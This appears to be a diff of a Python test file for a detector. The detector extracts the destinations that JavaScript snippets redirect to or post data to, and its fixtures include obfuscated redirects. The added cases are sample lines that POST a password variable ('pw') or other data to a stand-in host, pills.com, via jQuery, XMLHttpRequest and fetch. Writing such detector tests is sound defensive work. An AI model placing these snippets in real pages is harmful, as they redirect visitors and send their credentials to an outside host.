@@ -11,6 +11,11 @@ SCRIPTS = {
     "a location's part": 'document.location.href="http://pills.com/x"',
     "a call": "location.replace(`http://pills.com/x`)",
     "a form's action": "document.forms[0].action = 'http://pills.com/x'",
+    "a call that posts": "$.post('http://pills.com/x', {p: pw})",
+    "a request": 'var x = new XMLHttpRequest(); x.open("POST", "http://pills.com/x", true);',
+    "a request of jQuery's": "$.ajax({type: 'POST', data: {p: pw}, url: 'http://pills.com/x'})",
+    "a request of jQuery's, the address first": '$.ajax({\n  url: "http://pills.com/x",\n  type: "POST"})',
+    "what is fetched": "fetch('http://pills.com/x', { headers: {}, method: 'POST', body: JSON.stringify(d) })",
     "escaped slashes": r"location.href = 'http:\/\/pills.com\/x'",
     "base64": "location.href = atob('aHR0cDovL3BpbGxzLmNvbS94')",
     "percents": "location.href = decodeURIComponent('http%3A%2F%2Fpills.com%2Fx')",
@@ -20,6 +25,20 @@ SCRIPTS = {
 @pytest.mark.parametrize("form", SCRIPTS)
 def test_the_address_is_read_in_the_form_of(form: str) -> None:
     assert list(opened(SCRIPTS[form])) == ["http://pills.com/x"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "fetch('https://api.geo.com/json').then(r => r.json())",
+        "fetch('https://api.geo.com/json', { method: 'GET' })",
+        "x.open('GET', 'https://api.geo.com/json')",
+        "$.get('https://api.geo.com/json', f); $.getJSON('https://api.geo.com/json')",
+        "$.ajax({url: 'https://api.geo.com/json', success: f})",
+    ],
+)
+def test_an_address_that_is_only_asked_is_left_aside(script: str) -> None:
+    assert list(opened(script)) == []
 
 
 def test_an_address_that_is_only_loaded_from_is_left_aside() -> None:
@@ -33,7 +52,25 @@ def test_a_page_that_is_written_is_read(script: str) -> None:
 
 
 @given(
-    st.lists(st.sampled_from(["location", "=", "'", "atob(", "aHR0c", "%", "http%3A%2F%2F", "unescape('", "//", "<"]))
+    st.lists(
+        st.sampled_from(
+            [
+                "location",
+                "=",
+                "'",
+                "atob(",
+                "aHR0c",
+                "%",
+                "http%3A%2F%2F",
+                "unescape('",
+                "//",
+                "<",
+                ".ajax({",
+                "fetch(",
+                "url:",
+            ]
+        )
+    )
 )
 def test_no_script_makes_it_raise(pieces: list[str]) -> None:
     script = "".join(pieces)
